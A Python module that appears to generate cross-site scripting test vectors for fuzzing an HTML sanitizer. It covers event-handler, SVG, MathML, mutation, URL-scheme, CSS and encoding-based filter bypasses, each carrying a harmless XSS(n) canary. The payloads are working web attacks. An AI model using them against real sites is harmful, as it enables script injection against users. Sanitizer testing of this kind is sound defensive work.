"""Thousands of attempts to run a script out of what people write, made by class from patterns.

In a pattern `@` is the call that gives a vector away, `XSS(number)`. Mangling is what browsers forgive:
case, white space, quotes, entities, and what a normalisation could turn into markup.
"""

import dataclasses
import html
import random
import unicodedata
from collections.abc import Callable, Iterator
from urllib.parse import quote

CLASSES = ("attributes", "svg", "mathml", "mutation", "urls", "css", "encodings")


@dataclasses.dataclass(frozen=True, slots=True)
class Vector:
    number: int
    kind: str
    text: str


# --- Patterns -------------------------------------------------------------------------------------------

# Element, and events that fire by themselves, on a click, or when they are sent to it.
_ELEMENTS = {
    "img src=x": ("onerror", "onload", "onclick", "onmouseover"),
    "img srcset=x": ("onerror",),
    "body": ("onload", "onpageshow", "onfocus", "onhashchange", "onresize"),
    "input autofocus": ("onfocus", "oninput", "onclick", "onselect"),
    "input type=image src=x": ("onerror",),
    "select autofocus": ("onfocus", "onchange"),
    "textarea autofocus": ("onfocus", "onkeydown"),
    "button": ("onclick", "onpointerdown", "ontouchstart"),
    "details open": ("ontoggle",),
    "video src=x": ("onerror", "onloadstart"),
    "video><source src=x": ("onerror",),
    "audio src=x": ("onerror", "onloadstart"),
    "object data=x": ("onerror",),
    "embed src=x": ("onerror", "onload"),
    "iframe": ("onload",),
    "iframe src=x": ("onload",),
    "link rel=stylesheet href=x": ("onerror", "onload"),
    "style>x": ("onload",),
    "script src=x": ("onerror",),
    "marquee": ("onstart", "onbounce", "onfinish"),
    "p": ("onclick", "onmouseenter", "onpointerover", "onwheel", "oncopy", "oncut", "onpaste"),
    "a href=#": ("onclick", "onfocus", "ondragstart", "oncontextmenu"),
    "table": ("onclick", "onmouseover", "background=x onclick"),
    "td": ("onclick", "onmouseover"),
    "div contenteditable": ("onfocus", "onblur", "oninput", "onbeforeinput"),
    "p tabindex=1": ("onfocus", "onkeyup"),
    "custom-element tabindex=1": ("onfocus", "onclick"),
    "dialog open": ("onclose", "oncancel", "onclick"),
    "form": ("onsubmit", "onreset", "oninput"),
    "blockquote data-kind=pullquote": ("onclick",),
    "figure data-kind=picture data-asset=1 data-alt=a": ("onclick", "onmouseover"),
    "aside data-kind=related data-story=1": ("onclick",),
    "ol start=1": ("onclick",),
    "li value=1": ("onmouseover",),
}
ATTRIBUTES = [f"<{element} {event}=@>w" for element, events in _ELEMENTS.items() for event in events]
ATTRIBUTES += [
    "<p title='><img src=x onerror=@>'>w</p>",
    '"><img src=x onerror=@>',
    "'><img src=x onerror=@>",
    "`><img src=x onerror=@>",
    '" onmouseover=@ x="',
    "' autofocus onfocus=@ x='",
    "<a href='x' =onclick=@>w</a>",
    '<img """><script>@</script>">',
    "<img/src/onerror=@>",
    "<img src=x:x onerror\n=\n@>",
    '<figure data-kind="embed" data-provider="youtube">'
    '<a href="https://youtu.be/aaaaaaaaaaa" onclick=@>w</a></figure>',
    '<figure data-kind="picture" data-asset="1" data-alt=\'"><img src=x onerror=@>\'></figure>',
    '<figure data-kind="picture" data-asset="1" data-credit=\'"><svg onload=@>\'></figure>',
    "<figure data-kind=picture data-asset=1><figcaption><img src=x onerror=@></figcaption></figure>",
    "<aside data-kind=factbox><p><img src=x onerror=@></p></aside>",
]
SVG = [
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><script href=data:,@></script></svg>",
    "<svg><script xlink:href=data:,@></script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><set onbegin=@ attributeName=x dur=1s>",
    "<svg><animatetransform onbegin=@ attributeName=transform>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:@ /><a id=x><text y=20>w</text></a>",
    "<svg><a><animate attributeName=href values=javascript:@ /><text y=20>w</text></a>",
    "<svg><a xlink:href=javascript:@><text y=20>w</text></a></svg>",
    "<svg><a href=javascript:@><text y=20>w</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><foreignObject><iframe src=javascript:@></iframe></foreignObject></svg>",
    "<svg><desc><img src=x onerror=@></desc></svg>",
    "<svg><title><img src=x onerror=@></title></svg>",
    "<svg><style><img src=x onerror=@></style></svg>",
    "<svg><style><img title='</style><img src=x onerror=@>'></svg>",
    "<svg><image href=x onerror=@>",
    "<svg><image xlink:href=x onerror=@>",
    "<svg><feimage href=x onerror=@>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>@</script></svg>#x'>",
    "<svg><discard onbegin=@>",
    "<svg><p><img src=x onerror=@></p></svg>",
    "<svg></p><img src=x onerror=@>",
    "<svg/onload=@//",
    "<svg\nonload=@>",
    "<svg><![CDATA[<img src=x onerror=@>]]></svg>",
    "<svg><![CDATA[><img src=x onerror=@>]]>",
    "<svg viewBox='0 0 1 1' onfocusin=@ tabindex=1 autofocus>",
    "<svg><handler type=text/javascript ev:event=load>@</handler></svg>",
]
MATHML = [
    "<math href=javascript:@>w</math>",
    "<math><mtext href=javascript:@>w</mtext></math>",
    "<math><maction actiontype='statusline#http://x' xlink:href=javascript:@>w</maction></math>",
    "<math><mi xlink:href=javascript:@>w</mi></math>",
    "<math><mtext><img src=x onerror=@></mtext></math>",
    "<math><mi><img src=x onerror=@></mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=@></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><img src=x onerror=@></annotation-xml></math>",
    "<math><annotation-xml><svg><script>@</script></svg></annotation-xml></math>",
    "<math><semantics><mtext><svg onload=@></mtext></semantics></math>",
    "<math><style><img src=x onerror=@></style></math>",
    "<math><mtext><style><img src=x onerror=@></style></mtext></math>",
    "<math><xmp><img src=x onerror=@></xmp></math>",
    "<math><mglyph><img src=x onerror=@></mglyph></math>",
    "<math><malignmark><img src=x onerror=@></math>",
    "<math><mtext></p><img src=x onerror=@>",
    "<math><table><td><img src=x onerror=@>",
    "<math><mtext><iframe src=javascript:@></iframe></mtext></math>",
    "<math><mtext><details open ontoggle=@>w",
    "<math><mtext><input autofocus onfocus=@>",
]
MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=@>">',
    '<svg></p><style><a id="</style><img src=1 onerror=@>">',
    "<math></p><style><!--</style><img src/onerror=@>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=@ src>">',
    "<svg><desc><title><style></title><img src=x onerror=@>",
    "<svg><style><!--</style><img src=x onerror=@>-->",
    '<template><p title="</template><img src=x onerror=@>"></template>',
    "<template><script>@</script></template>",
    '<textarea><p title="</textarea><img src=x onerror=@>">',
    '<title><p title="</title><img src=x onerror=@>">',
    '<xmp><p title="</xmp><img src=x onerror=@>">',
    '<iframe><p title="</iframe><img src=x onerror=@>">',
    '<noembed><p title="</noembed><img src=x onerror=@>">',
    '<noframes><p title="</noframes><img src=x onerror=@>">',
    '<style><p title="</style><img src=x onerror=@>">',
    "<select><style></select><img src=x onerror=@></style>",
    "<select><template><script>@</script></template></select>",
    "<table><tr><td><a><table><img src=x onerror=@></table></a>",
    "<table><style></table><img src=x onerror=@></style>",
    "<p><table><p><img src=x onerror=@></table>",
    "<a><a><img src=x onerror=@></a></a>",
    "<b><p></b><img src=x onerror=@></p>",
    "<!--><img src=x onerror=@>-->",
    "<!---><img src=x onerror=@>-->",
    "<!--a--!><img src=x onerror=@>-->",
    "<!-- --\n><img src=x onerror=@> -->",
    "<!--[if gte IE 4]><script>@</script><![endif]-->",
    "<!--[picture 1]--><img src=x onerror=@><!--[/]-->",
    "<!--[story 1]--><img src=x onerror=@>",
    "<![CDATA[<img src=x onerror=@>]]>",
    "<?xml version='1.0'?><img src=x onerror=@>",
    "<!doctype html><img src=x onerror=@>",
    "</br/onerror=@><img src=x onerror=@>",
    "<plaintext><img src=x onerror=@>",
    "<listing>&lt;img src=x onerror=@&gt;</listing>",
    "<option><style></option></select><img src=x onerror=@></style>",
    "<figure><figcaption></figure><img src=x onerror=@>",
    "<h2><h3><img src=x onerror=@></h2></h3>",
    "<scr<script>ipt>@</scr</script>ipt>",
    "<<script>@//<</script>",
    "<script<p>>@</script>",
    "<img src=x onerror=@ <p>w",
    "<frameset onload=@><frame>",
]
URLS = [
    "<a href={url}>w</a>",
    "<a href='{url}'>w</a>",
    "<p><a href={url}><strong>w</strong></a></p>",
    "<iframe src='{url}'></iframe>",
    "<form action='{url}'><button>w</button></form>",
    "<form><button formaction='{url}'>w</button></form>",
    "<form><input type=submit formaction='{url}' value=w></form>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<base href='{url}//'><a href=x>w</a>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<img src='{url}'>",
    "<area href='{url}' shape=default>",
    "<map name=x><area href='{url}' coords=0,0,9,9></map><img usemap=#x src=x>",
    "<video poster='{url}'></video>",
    "<blockquote cite='{url}'>w</blockquote>",
    "<td background='{url}'>w</td>",
    "<a xlink:href='{url}'>w</a>",
    "<a href='https://example.com' ping='{url}'>w</a>",
    '<figure data-kind="embed" data-provider="youtube"><a href="{url}">w</a></figure>',
]
_ADDRESSES = [
    "javascript:@",
    "JaVaScRiPt:@",
    "java\tscript:@",
    "java\nscript:@",
    "\x01javascript:@",
    " javascript:@",
    "javascript\t:@",
    "java&#115;cript:@",
    "javascript&colon;@",
    "&#106;avascript&#58;@",
    "java&Tab;script&NewLine;:@",
    "javascript://x%0a@",
    "javascript:/*x*/@",
    "data:text/html,<script>@</script>",
    "data:text/html;charset=utf-8,%3Cscript%3E@%3C/script%3E",
    "vbscript:@",
    "https://example.com\njavascript:@",
    "//javascript:@",
    "\u200bjavascript:@",
    "jav\u00adascript:@",
    "feed:javascript:@",
    "view-source:javascript:@",
    "blob:javascript:@",
]
CSS = [
    "<style>@import 'javascript:{call}';</style>",
    "<style>*{{background:url(javascript:{call})}}</style>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={call}>w</p>",
    "<style>@keyframes x{{to{{left:0}}}}</style><p style='animation:x 1ms' onanimationend={call}>w</p>",
    "<p style='transition:outline 1ms' ontransitionend={call} tabindex=1 autofocus>w</p>",
    "<p style='background:url(javascript:{call})'>w</p>",
    "<p style='width:expression({call})'>w</p>",
    "<p style='-moz-binding:url(data:text/xml,{call})'>w</p>",
    "<p style='behavior:url(x.htc)' onreadystatechange={call}>w</p>",
    "<p style='list-style-image:url(javascript:{call})'>w</p>",
    "<p style='x:\"</p><img src=x onerror={call}>\"'>w</p>",
    "<style></style/><img src=x onerror={call}></style>",
    "<style><!--</style><img src=x onerror={call}>--></style>",
    "<style media='</style><img src=x onerror={call}>'></style>",
    "<style>p{{content:'</style><img src=x onerror={call}>'}}</style>",
    "<link rel=stylesheet href='javascript:{call}'>",
    "<link rel=stylesheet href='data:text/css,*{{x:expression({call})}}'>",
    "<link rel=import href='data:text/html,<script>{call}</script>'>",
    "<table style='background:url(x)' onclick={call}><tr><td>w</td></tr></table>",
    "<svg><style>*{{fill:url(javascript:{call})}}</style><path onclick={call} d='M0 0h9v9z'/></svg>",
    "<font style='width:0;animation:x' onanimationcancel={call} onclick={call}>w</font>",
    "<p style=content-visibility:auto oncontentvisibilityautostatechange={call}>w",
]
ENCODINGS = [
    "<script>@</script>",
    "<img src=x onerror=@>",
    "<svg onload=@>",
    "<a href=javascript:@>w</a>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<details open ontoggle=@>w",
    "<input autofocus onfocus=@>",
    "<body onload=@>",
]

# --- What is done to them -------------------------------------------------------------------------------


def _case(text: str, dice: random.Random) -> str:
    """Names of elements and attributes in any case; the call keeps its own."""
    return "".join(c.swapcase() if c.isascii() and c.isalpha() and dice.random() < 0.4 else c for c in text)


def _space(text: str, dice: random.Random) -> str:
    return text.replace(" ", dice.choice(["\t", "\n", "\x0c", "/", "  ", "\r\n", " / "]))


def _quotes(text: str, dice: random.Random) -> str:
    quote_mark = dice.choice(['"', "'"])
    return text.replace("=@", f"={quote_mark}@{quote_mark}")


def _entities(text: str, dice: random.Random) -> str:
    """The call in an attribute, written in numbers."""
    return text.replace("=@", "=&#x58;SS&lpar;#&rpar;")


def _prefix(text: str, dice: random.Random) -> str:
    return (
        dice.choice(["<p>", "</p>", "w<br>", "<ul><li>", "<b>", "</title>", "-->", "]]>", "<h2>", "\ufeff"])
        + text
    )


def _nul(text: str, dice: random.Random) -> str:
    place = dice.randrange(1, 5)
    return text[:place] + dice.choice("\x00\x08\x0b\x1f\ufffe") + text[place:]


def _unclosed(text: str, dice: random.Random) -> str:
    return text.removesuffix(">")


def _nested(text: str, dice: random.Random) -> str:
    outer = dice.choice(["p", "blockquote", "li", "td", "strong", "h3", "aside data-kind=factbox"])
    return f"<{outer}>{text}</{outer.split()[0]}>"


MANGLES: tuple[Callable[[str, random.Random], str], ...] = (
    *(_case, _space, _quotes, _entities, _prefix, _nul, _unclosed, _nested),
)

_OTHERS = str.maketrans("<>\"'()=:", "＜＞＂＇（）＝：")


def _escaped(text: str, dice: random.Random) -> str:
    """Text that becomes markup where somebody decodes once too often, or normalises too well."""
    match dice.randrange(9):
        case 0:
            return html.escape(text)
        case 1:
            return html.escape(html.escape(text))
        case 2:
            return "".join(f"&#{ord(c)};" for c in text)
        case 3:
            return "".join(f"&#x{ord(c):x}" for c in text)
        case 4:
            return quote(text)
        case 5:
            return text.translate(_OTHERS)
        case 6:
            return text.replace("<", "+ADw-").replace(">", "+AD4-")
        case 7:
            return text.replace("<", "\\u003c").replace(">", "\\x3e")
    return unicodedata.normalize("NFD", text.replace("<", "\ufe64").replace(">", ">\u0338"))


# --- All of them ----------------------------------------------------------------------------------------


def _patterns(kind: str) -> list[str]:
    match kind:
        case "attributes":
            return ATTRIBUTES
        case "svg":
            return SVG
        case "mathml":
            return MATHML
        case "mutation":
            return MUTATION
        case "urls":
            return [pattern.format(url=address) for pattern in URLS for address in _ADDRESSES]
        case "css":
            return [pattern.replace("@", "\0").format(call="@").replace("\0", "@@") for pattern in CSS]
    return ENCODINGS


def _mangled(kind: str, pattern: str, dice: random.Random) -> str:
    if kind == "encodings":
        return _escaped(dice.choice(MANGLES)(pattern, dice), dice)
    for mangle in dice.sample(MANGLES, dice.randrange(3)):
        pattern = mangle(pattern, dice)
    return pattern


def vectors(count: int, seed: int = 0) -> Iterator[Vector]:
    """`count` different ones, the classes in turn; the same for the same seed."""
    dice = random.Random(seed)
    patterns = {kind: _patterns(kind) for kind in CLASSES}
    seen: set[str] = set()
    number = 0
    while number < count:
        kind = CLASSES[number % len(CLASSES)]
        # Every pattern comes as it stands before any comes mangled.
        fresh = [pattern for pattern in patterns[kind] if pattern not in seen]
        text = (
            fresh[0] if fresh and dice.random() < 0.5 else _mangled(kind, dice.choice(patterns[kind]), dice)
        )
        if text in seen:
            continue
        seen.add(text)
        yield Vector(number, kind, filled(text, number))
        number += 1


def filled(pattern: str, number: int) -> str:
    """The pattern with its call; `@@` is a sign of CSS, `#` the number of a call that is spelled out."""
    text = pattern.replace("@@", "\0").replace("@", f"XSS({number})").replace("\0", "@")
    return text.replace("&lpar;#&rpar;", f"&lpar;{number}&rpar;")
